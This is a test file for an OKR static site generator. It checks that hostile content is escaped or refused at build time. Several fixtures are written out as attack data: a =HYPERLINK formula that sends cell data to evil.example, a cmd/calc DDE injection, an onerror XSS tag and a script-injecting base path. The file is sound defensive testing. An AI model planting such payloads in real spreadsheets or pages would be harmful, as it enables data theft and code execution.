/**
 * Hostile content end to end (issue 14): content that `check` accepts
 * builds, with no NaN or Infinity anywhere; content it refuses stops `build`
 * with the same findings, never a stack trace; a bad OKRBOOK_BASE is refused
 * plainly.
 */
import { readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { check } from '../../src/cli/check.ts';
import { cleanContentRoots, contentRoot, fixture } from '../helpers.ts';
import { BUILDS, buildSite, distOf, SITES, type SiteBuild } from '../sites.ts';

const work = path.join(BUILDS, 'hostile');
afterAll(() => {
  rmSync(work, { recursive: true, force: true });
  cleanContentRoots();
});

/** Every text file below a folder (pages, JSON, CSV, feed, search metadata). */
function textFiles(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const full = path.join(dir, name);
    if (statSync(full).isDirectory()) out.push(...textFiles(full));
    else if (/\.(html|json|csv|xml|txt|ics)$/.test(name)) out.push(full);
  }
  return out;
}

/** The files of a built site that print a non-number, with the first hit. */
function nonNumbers(dist: string): string[] {
  return textFiles(dist).flatMap((file) => {
    const hit = /\bNaN\b|-?\bInfinity\b/.exec(readFileSync(file, 'utf8'));
    return hit ? [`${path.relative(dist, file)}: ${hit[0]}`] : [];
  });
}

/** A 324-character person name (issue 26: it made a folder name too long for the file system). */
const LONG_NAME = `A ${'A '.repeat(160)}Z`;

const small: SiteBuild = { name: 'hostile', content: fixture('small'), asOf: '2026-08-15', base: '/' };

describe('no NaN or Infinity is ever published', { timeout: 300_000 }, () => {
  it.each(SITES.map((site) => site.name))('in the %s site: no page, JSON, CSV or feed holds NaN or Infinity', (name) => {
    expect(nonNumbers(distOf(name))).toEqual([]);
  });

  it('in a site of extreme numbers and dates that check accepts, with URL-safe odd names, formula-like titles and a 324-character name (issue 26)', () => {
    const root = contentRoot({
      'cycles/2026-q3.md': '---\nname: Q3 2026\nstart: 2026-07-01\nend: 2999-12-31\n---\nA very long cycle. <!-- internal remark: nobody should read this -->\n',
      'okrs/2026-q3/sales/v1.2_plan.md':
        '---\ntitle: Extremes\nteam: sales\ncycle: 2026-q3\nowner: A\nweight: 1000000\nkey_results:\n  - id: wide\n    title: Wide\n    baseline: -1000000000000000\n    target: 1000000000000000\n    weight: 1000000\n  - id: narrow\n    title: Narrow\n    baseline: 0\n    target: 0.000000001\n---\nThe plan.\n',
      'checkins/2026-q3/sales/2026-08-10.md': '---\nteam: sales\ndate: 2026-08-10\nupdates:\n  - kr: wide\n    value: 1000000000000000\n  - kr: narrow\n    value: 1000000000000000\n---\n',
      'site.yaml': 'title: "=Acme; OKRs, \\\\ <b>"\ncheckins:\n  every_days: 366\n  stale_after_days: 3660\nleadership:\n  every_months: 120\n',
      // Issue 26: a 324-character owner name, formula-leading titles and units, markup in titles.
      'okrs/2026-q3/sales/hostile.mdx': `---\ntitle: "=HYPERLINK(\\"http://evil.example/?d=\\"&A1,\\"Click\\")"\nteam: sales\ncycle: 2026-q3\nowner: ${LONG_NAME}\nkey_results:\n  - id: formula\n    title: "@SUM(1+1) <img src=x onerror=alert(1)>"\n    baseline: -5\n    target: 5\n    unit: "+1+cmd|' /C calc'!A0"\n---\nShown words. {/* hidden {nested} remark */}\n\n[//]: # (another hidden remark)\n`,
    });
    const report = check([], { OKRBOOK_CONTENT: root, OKRBOOK_AS_OF: small.asOf });
    expect(report.findings.filter((f) => f.level === 'error'), report.output).toEqual([]);
    const dist = path.join(work, 'extremes');
    const { code, output } = buildSite({ ...small, content: root }, dist);
    expect(code, output).toBe(0);
    expect(nonNumbers(dist)).toEqual([]);
    // The odd but URL-safe id is a page, linked as it is from its team's scorecard.
    expect(statSync(path.join(dist, 'objectives/2026-q3/sales/v1.2_plan/index.html')).isFile()).toBe(true);
    expect(readFileSync(path.join(dist, 'teams/sales/2026-q3/index.html'), 'utf8')).toContain('href="/objectives/2026-q3/sales/v1.2_plan/"');
    // Issue 26: the long name has a page in a folder of at most 64 characters; no cell of the CSV starts a formula;
    // every calendar ends each line with CRLF and holds one UID per event.
    const people = readdirSync(path.join(dist, 'people'));
    expect(people.filter((slug) => slug.startsWith('a-'))).toEqual([expect.stringMatching(/^a-a-a-[a-z0-9-]{50,58}$/)]);
    expect(people.every((slug) => slug.length <= 64)).toBe(true);
    const csv = readFileSync(path.join(dist, 'cycles/2026-q3.csv'), 'utf8');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`);
    expect(csv).not.toMatch(/(^|,|\r\n)"?[=+@]/);
    for (const file of textFiles(dist).filter((f) => f.endsWith('.ics'))) {
      const ics = readFileSync(file, 'utf8');
      expect(ics.endsWith('\r\n'), file).toBe(true);
      expect(ics.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      expect(ics.match(/^BEGIN:VEVENT/gm)?.length, file).toBe(ics.match(/^UID:/gm)?.length);
    }
    expect(readFileSync(path.join(dist, 'calendar.ics'), 'utf8')).toContain('X-WR-CALNAME:=Acme\\; OKRs\\, \\\\ <b>');
    // The HTML comment stays a comment: no page shows it as text (the search index is tested in tests/unit/hostile.test.ts).
    for (const file of textFiles(dist)) expect(readFileSync(file, 'utf8').replace(/<!--[\s\S]*?-->/g, ''), file).not.toContain('nobody should read this');
  });
});

describe('build refuses what check refuses', { timeout: 300_000 }, () => {
  it('stops on a body that does not compile, a missing image and a hostile name, with file and line and no stack', () => {
    const root = contentRoot({
      'okrs/2026-q3/sales/broken.mdx': '---\ntitle: Broken\nteam: sales\ncycle: 2026-q3\nowner: A\nkey_results:\n  - id: broken\n    title: B\n    baseline: 0\n    target: 1\n---\n<Callout>\nNever closed.\n',
      'teams/sales.md': `${readFileSync(path.join(fixture('small'), 'teams/sales.md'), 'utf8')}\n![Team photo](./team.png)\n`,
      'okrs/2026-q3/sales/c#-migration.md': '---\ntitle: C# migration\nteam: sales\ncycle: 2026-q3\nowner: A\nkey_results:\n  - id: csharp\n    title: C\n    baseline: 0\n    target: 1\n---\n',
    });
    const { code, output } = buildSite({ ...small, content: root }, path.join(work, 'refused'));
    expect(code).toBe(1);
    expect(output).toContain('okrs/2026-q3/sales/broken.mdx:12: error mdx-syntax:');
    expect(output).toContain('teams/sales.md:');
    expect(output).toContain('error image-not-found: there is no image `teams/team.png`');
    expect(output).toContain('okrs/2026-q3/sales/c#-migration.md:1: error invalid-id:');
    expect(output).not.toMatch(/MDXError|ImageNotFound|NoMatchingStaticPathFound|internal error|\n\s+at /);
  });

  it('refuses an OKRBOOK_BASE that is not a path of URL-safe folders, before Astro starts', () => {
    const { code, output } = buildSite({ ...small, base: '/x"><script>alert(1)</script>' }, path.join(work, 'base'));
    expect(code).toBe(1);
    expect(output).toContain('okrbook build: OKRBOOK_BASE must be a path of folder names made of letters, digits');
    expect(output).not.toMatch(/\n\s+at /);
  });
});
